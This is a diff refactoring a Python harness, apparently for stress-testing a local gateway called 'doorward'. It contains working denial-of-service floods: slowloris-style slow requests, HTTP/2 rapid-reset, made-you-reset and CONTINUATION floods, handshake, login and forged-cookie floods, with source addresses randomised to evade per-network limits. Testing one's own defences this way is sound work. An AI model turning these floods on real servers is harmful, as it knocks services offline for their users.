@@ -1,10 +1,9 @@
-"""One flood.
+"""Runs one flood and prints its counts as JSON: connections, frames, responses by status.
 
-    attack.py NAME PORT SECONDS SHARE      prints how many connections it made, and what it did with them;
-                                           SHARE is the part of the flood's full size
+    attack.py NAME PORT SECONDS SIZE      SIZE is a share of the full flood, such as 0.1
 
-All floods but `one-network` come from thousands of addresses, so that no share of a network holds them
-up. Frames are written by hand: a library would refuse to send most of this.
+All floods except `one-network` come from thousands of addresses, so limits per network do not apply. The script
+builds its own frames, because HTTP/2 libraries refuse to send invalid ones.
 """
 
 import asyncio
@@ -19,8 +18,8 @@ import time
 import urllib.parse
 from collections import Counter
 
-SLOW = 2000
-SWARM = 40
+SLOW_CONNECTIONS = 2000
+FAST_CONNECTIONS = 40
 COUNTS: Counter[str] = Counter()
 
 DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
@@ -36,16 +35,11 @@ def head(method: bytes = GET) -> bytes:
     return method + b"\x87\x84\x01\x09localhost"
 
 
-def many(port: int):
-    place = f"127.{random.randint(1, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
-    return port, (place, 0)
+def random_address() -> str:
+    return f"127.{random.randint(1, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
 
 
-def one(port: int):
-    return port, ("127.0.0.1", 0)
-
-
-def context(*protocols: str) -> ssl.SSLContext:
+def tls_context(*protocols: str) -> ssl.SSLContext:
     tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     tls.check_hostname = False
     tls.verify_mode = ssl.CERT_NONE
@@ -53,25 +47,22 @@ def context(*protocols: str) -> ssl.SSLContext:
     return tls
 
 
-async def connect(at, tls: ssl.SSLContext, window: int | None = None, name: str = "localhost"):
-    """`window` is what the kernel takes before it stops the other side."""
-    port, place = at
-    COUNTS["tried"] += 1
+async def connect(
+    port: int, tls: ssl.SSLContext, address: str | None = None, window: int | None = None, name: str = "localhost"
+):
+    """Connects from `address`, by default a random one. `window` is the size of the kernel's receive buffer."""
+    COUNTS["connections"] += 1
     plain = socket.socket()
     plain.setblocking(False)
     if window:
         plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
-    plain.bind(place)
+    plain.bind((address or random_address(), 0))
     await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
-    stream = await asyncio.open_connection(
-        sock=plain, ssl=tls, server_hostname=name, limit=window or 65536
-    )
-    COUNTS["connected"] += 1
-    return stream
+    return await asyncio.open_connection(sock=plain, ssl=tls, server_hostname=name, limit=window or 65536)
 
 
-def again(flood):
-    """Does it over and over; what the gateway closes is opened anew."""
+def repeated(flood):
+    """Repeats a flood and reconnects when the gateway closes the connection."""
 
     async def forever(port: int) -> None:
         while True:
@@ -84,32 +75,32 @@ def again(flood):
     return forever
 
 
-async def drip(stream, what: bytes) -> None:
+async def drip(stream, data: bytes) -> None:
     reader, writer = stream
     while not reader.at_eof():
-        writer.write(what)
+        writer.write(data)
         await writer.drain()
         await asyncio.sleep(2)
     raise ConnectionError
 
 
-@again
-async def heads(port: int) -> None:
-    stream = await connect(many(port), context())
+@repeated
+async def slow_heads(port: int) -> None:
+    stream = await connect(port, tls_context())
     stream[1].write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
     await drip(stream, b"x")
 
 
-@again
-async def bodies(port: int) -> None:
-    stream = await connect(many(port), context())
+@repeated
+async def slow_bodies(port: int) -> None:
+    stream = await connect(port, tls_context())
     stream[1].write(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
     await drip(stream, b"x")
 
 
-@again
-async def reading(port: int) -> None:
-    _, writer = await connect(many(port), context(), window=2048, name="big.localhost")
+@repeated
+async def slow_reading(port: int) -> None:
+    _, writer = await connect(port, tls_context(), window=2048, name="big.localhost")
     writer.transport.pause_reading()
     writer.write(b"GET /big HTTP/1.1\r\nHost: big.localhost\r\n\r\n")
     while not writer.transport.is_closing():
@@ -118,20 +109,20 @@ async def reading(port: int) -> None:
     raise ConnectionError
 
 
-def frames(begin: bytes, piece):
-    """HTTP/2 connections that write as fast as they can."""
+def frames(start: bytes, make_frame):
+    """Returns a flood of HTTP/2 frames at full speed: `start`, then `make_frame(n)` for each number n."""
 
-    @again
+    @repeated
     async def flood(port: int) -> None:
-        reader, writer = await connect(many(port), context("h2"))
-        writer.write(PREFACE + frame(SETTINGS, 0, 0) + begin)
+        reader, writer = await connect(port, tls_context("h2"))
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + start)
         number = 0
         while True:
-            writer.write(b"".join(piece(number + step) for step in range(50)))
+            writer.write(b"".join(make_frame(number + step) for step in range(50)))
             number += 50
             COUNTS["frames"] += 50
             await writer.drain()
-            # What comes back is taken and thrown away.
+            # Responses are discarded.
             reader._buffer.clear()
             reader._maybe_resume_transport()
             if reader.at_eof():
@@ -155,15 +146,15 @@ def made_reset(number: int) -> bytes:
     return frame(HEADERS, 5, stream, head()) + frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff")
 
 
-@again
+@repeated
 async def handshakes(port: int) -> None:
-    _, writer = await connect(many(port), context("h2"))
+    _, writer = await connect(port, tls_context("h2"))
     writer.transport.abort()
 
 
-@again
+@repeated
 async def one_network(port: int) -> None:
-    _, writer = await connect(one(port), context())
+    _, writer = await connect(port, tls_context(), address="127.0.0.1")
     await asyncio.sleep(1)
     writer.transport.abort()
 
@@ -177,9 +168,9 @@ async def exchange(stream, request: bytes) -> tuple[bytes, bytes]:
     return response, await reader.readexactly(int(found.group(1)) if found else 0)
 
 
-@again
+@repeated
 async def logins(port: int) -> None:
-    stream = await connect(many(port), context())
+    stream = await connect(port, tls_context())
     page = b"GET /.doorward/login HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"
     response, body = await exchange(stream, page)
     cookies = b"; ".join(re.findall(rb"set-cookie: ([^;]*)", response, re.IGNORECASE))
@@ -196,50 +187,50 @@ async def logins(port: int) -> None:
     stream[1].transport.abort()
 
 
-@again
-async def junk(port: int) -> None:
-    stream = await connect(many(port), context())
+@repeated
+async def forged_cookies(port: int) -> None:
+    stream = await connect(port, tls_context())
     while True:
         cookie = "dw1_" + os.urandom(58).hex()[:104]
         request = f"GET / HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-doorward={cookie}\r\n\r\n"
         await exchange(stream, request.encode())
 
 
-FIELD = b"\x00\x01x\x64" + b"y" * 100
+HEADER = b"\x00\x01x\x64" + b"y" * 100
 FLOODS = {
-    "slow-heads": (heads, SLOW),
-    "slow-bodies": (bodies, SLOW),
-    "slow-reading": (reading, SLOW),
-    "rapid-reset": (frames(b"", reset), SWARM),
-    "made-you-reset": (frames(b"", made_reset), SWARM),
+    "slow-heads": (slow_heads, SLOW_CONNECTIONS),
+    "slow-bodies": (slow_bodies, SLOW_CONNECTIONS),
+    "slow-reading": (slow_reading, SLOW_CONNECTIONS),
+    "rapid-reset": (frames(b"", reset), FAST_CONNECTIONS),
+    "made-you-reset": (frames(b"", made_reset), FAST_CONNECTIONS),
     "continuation": (
-        frames(frame(HEADERS, 1, 1, head()), lambda _: frame(CONTINUATION, 0, 1, FIELD)),
-        SWARM,
+        frames(frame(HEADERS, 1, 1, head()), lambda _: frame(CONTINUATION, 0, 1, HEADER)),
+        FAST_CONNECTIONS,
     ),
-    "empty-data": (frames(frame(HEADERS, 4, 1, head(POST)), lambda _: frame(DATA, 0, 1)), SWARM),
-    "pings": (frames(b"", lambda _: frame(PING, 0, 0, bytes(8))), SWARM),
-    "settings": (frames(b"", lambda _: frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64")), SWARM),
-    "handshakes": (handshakes, SWARM),
-    "logins": (logins, SWARM),
-    "junk-cookies": (junk, SWARM),
-    "one-network": (one_network, SLOW),
+    "empty-data": (frames(frame(HEADERS, 4, 1, head(POST)), lambda _: frame(DATA, 0, 1)), FAST_CONNECTIONS),
+    "pings": (frames(b"", lambda _: frame(PING, 0, 0, bytes(8))), FAST_CONNECTIONS),
+    "settings": (frames(b"", lambda _: frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64")), FAST_CONNECTIONS),
+    "handshakes": (handshakes, FAST_CONNECTIONS),
+    "logins": (logins, FAST_CONNECTIONS),
+    "forged-cookies": (forged_cookies, FAST_CONNECTIONS),
+    "one-network": (one_network, SLOW_CONNECTIONS),
 }
 
 
 async def main() -> None:
     name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
     flood, size = FLOODS[name]
-    # The gateway and its users have the cores first, as they would if this were another machine.
+    # The gateway and its users have priority.
     os.nice(10)
     tasks = []
-    began = time.monotonic()
+    start = time.monotonic()
     for number in range(max(1, int(size * float(sys.argv[4])))):
         tasks.append(asyncio.create_task(flood(port)))
         if number % 50 == 0:
             await asyncio.sleep(0.01)
-    await asyncio.sleep(max(0.0, began + seconds - time.monotonic()))
+    await asyncio.sleep(max(0.0, start + seconds - time.monotonic()))
     print(json.dumps(COUNTS), flush=True)
-    # The connections end with the process, all at once.
+    # All connections end at once, with the process.
     os._exit(0)
 
 
